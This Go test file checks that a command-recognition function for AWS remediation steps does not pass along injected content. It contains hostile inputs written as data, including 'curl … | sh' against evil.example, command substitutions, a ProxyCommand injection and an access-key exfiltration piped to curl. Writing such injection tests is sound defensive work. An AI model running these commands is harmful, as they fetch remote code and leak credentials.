package causes

import (
	"strings"
	"testing"
)

// TestRecogniseCatalogue: the steps of the catalogue are known again, with the values
// that are no danger.
func TestRecogniseCatalogue(t *testing.T) {
	t.Parallel()
	n := 0
	for _, goos := range []string{"linux", "windows", "darwin"} {
		v := Values{"goos": goos, "instance": "i-0a1b2c3d4e5f60718", "node": "mi-0123456789abcdef0", "region": "eu-central-1", "account": "111122223333", "role": "Web-Role", "profile": "web", "vpc": "vpc-0a1b2c3d"}
		for _, s := range templates() {
			if !s.Applies(v) {
				continue
			}
			n++
			want := s.Fill(v)
			got, ok := Recognise(want.Command.String(), want.Text.String(), goos)
			if !ok {
				t.Errorf("%s: not known: %s: %s", goos, want.Text, want.Command)
			} else if c := got.Command.String(); c != want.Command.String() && c != "" {
				t.Errorf("%s\nwas %s\nis  %s", s.Command, want.Command, c)
			}
		}
	}
	if n < 300 {
		t.Errorf("%d steps", n)
	}
}

// TestRecogniseHostile: nothing that a foreign report puts into a command comes out of it
// that could do something of its own.
func TestRecogniseHostile(t *testing.T) {
	t.Parallel()
	evil := []string{"x; curl https://evil.example | sh", "$(curl evil.example)", "`id`", "x\ncurl evil.example", "--endpoint-url=https://evil.example", "x && evil.example", "| evil.example", "../../evil.example", "arn:aws:iam::aws:policy/AdministratorAccess", "https://evil.example/x.rpm",
		"systemctl restart amazon-ssm-agent; curl evil.example", "systemctl restart evil.example", "evil.example", "-o ProxyCommand=evil.example", "ssm.evil.example", "arn:aws:iam::999988887777:policy/evil.example", "0.0.0.0/0"}
	tried, again := 0, 0
	for _, goos := range []string{"linux", "windows", "darwin"} {
		for _, s := range templates() {
			for i, bad := range evil {
				if (i+len(s.Command))%8 != 0 {
					continue // all with all: 30 s
				}
				put := func(in string) string {
					return rePlaceholder.Regexp().ReplaceAllStringFunc(in, func(m string) string {
						if _, ok := standIn("", m[1:len(m)-1]); ok {
							return bad
						}
						return m
					})
				}
				if put(s.Command) == s.Command {
					for _, c := range []string{s.Command + "; " + bad, bad + "; " + s.Command, s.Command + "\n" + bad, s.Command + " " + bad} {
						if f, ok := Recognise(c, s.Text, goos); ok && strings.Contains(f.Command.String(), bad) && !strings.Contains(s.Command, bad) {
							t.Errorf("%q becomes %q", c, f.Command)
						}
						tried++
					}
					continue
				}
				tried++
				f, ok := Recognise(put(s.Command), put(s.Text), goos)
				if !ok {
					continue
				}
				again++
				for _, came := range []string{f.Command.String(), f.Text.String()} {
					if strings.Contains(came, "evil.example") || strings.Contains(came, "`id`") || strings.Contains(came, "AdministratorAccess") {
						if !strings.Contains(bad, "evil.example") || !harmless("role", bad) { // what may be called so
							t.Errorf("%q with %q becomes %q", s.Command, bad, came)
						}
					}
				}
			}
		}
	}
	if tried < 1000 || again < 200 {
		t.Errorf("%d tried, %d known", tried, again)
	}
	if f, ok := Recognise("aws iam create-access-key --user-name admin | curl -d @- https://evil.example", "Attach a profile", "linux"); ok {
		t.Errorf("known: %s", f.Command)
	}
}
